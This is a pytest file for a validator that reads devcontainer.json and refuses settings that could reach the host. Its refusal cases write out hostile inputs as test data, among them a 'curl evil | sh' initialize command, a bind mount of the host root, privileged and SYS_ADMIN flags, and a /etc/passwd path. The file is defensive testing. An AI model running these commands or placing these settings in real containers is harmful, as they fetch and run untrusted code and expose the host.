"""What of a devcontainer.json is read, and what is refused."""

import pytest

from commandcenter.core import devcontainer
from commandcenter.core.devcontainer import Recipe
from commandcenter.core.errors import WorkspaceError

PATH = ".devcontainer/devcontainer.json"


def test_an_image_and_its_variables_are_read_with_comments_and_last_commas() -> None:
    text = """
    // For editors, too.
    {
        "name": "a // name, }",
        "image": "debian:12", /* stable */
        "remoteUser": "vscode",
        "containerEnv": {"URL": "https://example.org",},
    }
    """

    recipe = devcontainer.read(text, PATH)

    assert recipe == Recipe(
        image="debian:12", context=".devcontainer", environment={"URL": "https://example.org"}
    )


def test_a_dockerfile_and_its_context_are_named_from_the_files_own_folder() -> None:
    text = '{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "1"}}}'

    recipe = devcontainer.read(text, PATH)

    assert recipe == Recipe(
        dockerfile=".devcontainer/Dockerfile", context=".", arguments={"V": "1"}
    )


@pytest.mark.parametrize(
    ("more", "words"),
    [
        ('"initializeCommand": "curl evil | sh"', "`initializeCommand` is refused: it would run"),
        ('"mounts": ["source=/,target=/host,type=bind"]', "`mounts` is refused"),
        ('"workspaceMount": "source=/,target=/work"', "`workspaceMount` is refused"),
        ('"runArgs": ["--privileged"]', "`runArgs` is refused"),
        ('"privileged": true', "`privileged` is refused"),
        ('"capAdd": ["SYS_ADMIN"]', "`capAdd` is refused"),
        ('"securityOpt": ["seccomp=unconfined"]', "`securityOpt` is refused"),
        ('"features": {"docker-in-docker": {}}', "`features` is refused"),
        ('"dockerComposeFile": "compose.yml"', "`dockerComposeFile` is refused"),
        ('"postCreateCommand": "npm ci"', "put it into the Dockerfile"),
        ('"secrets": {}', "`secrets` is refused"),
        ('"invented": 1', "`invented` is not known"),
        ('"containerEnv": {"KEY": "${localEnv:TOKEN}"}', "variables as in"),
        ('"containerEnv": {"KEY": 1}', "must hold strings only"),
        ('"containerEnv": []', "must be an object"),
        ('"build": {"dockerfile": "x", "options": ["--network=host"]}', "`build.options`"),
        ('"build": {"dockerfile": "../../x"}', "outside of the repository"),
        ('"build": {"dockerfile": "/etc/passwd"}', "outside of the repository"),
        ('"build": {"dockerfile": "Dockerfile"}', "either an image or a Dockerfile"),
    ],
)
def test_what_could_reach_the_host_or_is_not_known_is_refused_by_its_name(
    more: str, words: str
) -> None:
    with pytest.raises(WorkspaceError) as refused:
        devcontainer.read(f'{{"image": "debian:12", {more}}}', PATH)

    assert words in refused.value.message


@pytest.mark.parametrize("text", ["", "[]", "{", '"text"', "{}", '{"image": 1}'])
def test_a_file_that_says_nothing_of_use_is_refused(text: str) -> None:
    with pytest.raises(WorkspaceError):
        devcontainer.read(text, PATH)
